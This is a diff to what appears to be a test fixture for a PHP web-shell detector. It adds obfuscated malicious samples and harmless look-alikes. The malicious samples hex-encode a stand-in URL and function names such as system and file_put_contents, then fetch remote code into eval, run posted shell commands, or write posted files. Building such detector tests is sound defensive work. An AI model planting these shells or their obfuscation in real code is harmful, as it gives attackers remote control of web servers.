@@ -411,6 +411,33 @@ MALICIOUS = [
     ("expect wrapper read whole", "<?php echo file_get_contents(\"expect://{$_POST['c']}\");", CMD),
     ("error_log into a script", "<?php error_log($_POST['d'], 3, 'cache/x.php');", WRITE),
     ("error_log to a chosen file", "<?php error_log($_POST['d'], 3, $_POST['f']);", WRITE),
+    (
+        "URL kept as hex pairs, decoded by a step-2 loop and fetched into eval",
+        "<?php function h2s($h) { $s = ''; for ($i = 0; $i < strlen($h) - 1; $i += 2) {"
+        " $s .= chr(hexdec($h[$i] . $h[$i + 1])); } return $s; }"
+        " eval('?>' . file_get_contents(h2s('68747470733a2f2f782e6578616d706c652f702e747874')));",
+        CODE,
+    ),
+    (
+        "hex pairs read with substr and a spelt-out increment",
+        "<?php function u($h) { $o = ''; for ($k = 0; $k < strlen($h); $k = $k + 2) {"
+        " $o .= chr(hexdec(substr($h, $k, 2))); } return $o; } $f = u('73797374656d'); $f($_POST['c']);",
+        CMD,
+    ),
+    (
+        "payload shifted byte by byte in place after inflating",
+        "<?php function d($s) { $s = gzinflate(base64_decode($s)); for ($i = 0; $i < strlen($s); $i++) {"
+        " $s[$i] = chr(ord($s[$i]) - 1); } return $s; } $f = d('K6kqKU3LAwA='); $f($_GET['x']);",
+        CMD,
+    ),
+    (
+        "table of hex-encoded function names decoded by a loop, called by index",
+        "<?php $t = array('66696c655f7075745f636f6e74656e7473', '6d6b646972');"
+        " for ($i = 0; $i < count($t); $i++) { $t[$i] = dx($t[$i]); } $t[0]($_POST['p'], $_POST['c']);"
+        " function dx($h) { $r = ''; for ($i = 0; $i < strlen($h) - 1; $i += 2) {"
+        " $r .= chr(hexdec($h[$i] . $h[$i + 1])); } return $r; }",
+        WRITE,
+    ),
 ]
 
 
@@ -624,6 +651,21 @@ BENIGN = [
         "update check through a download helper",
         "<?php function get($u) { return file_get_contents($u); }"
         " $v = json_decode(get('https://updates.example.org/v.json'), true); echo htmlspecialchars($v['version']);",
+    ),
+    (
+        "colour channels read from hex pairs",
+        "<?php $c = 'ff8800'; $rgb = ''; for ($i = 0; $i < 6; $i += 2) { $rgb .= chr(hexdec($c[$i] . $c[$i + 1])); }"
+        " echo strlen($rgb) . htmlspecialchars($_GET['n']);",
+    ),
+    (
+        "a label shifted in place for display",
+        "<?php $s = 'Ifmmp'; for ($i = 0; $i < strlen($s); $i++) { $s[$i] = chr(ord($s[$i]) - 1); }"
+        " echo $s . htmlspecialchars($_GET['n']);",
+    ),
+    (
+        "a table of formatter names normalised by a loop and applied to input",
+        "<?php $f = array('TRIM', 'STRTOUPPER'); for ($i = 0; $i < count($f); $i++) { $f[$i] = strtolower($f[$i]); }"
+        " echo htmlspecialchars($f[0]($_POST['name']));",
     ),
 ]
 
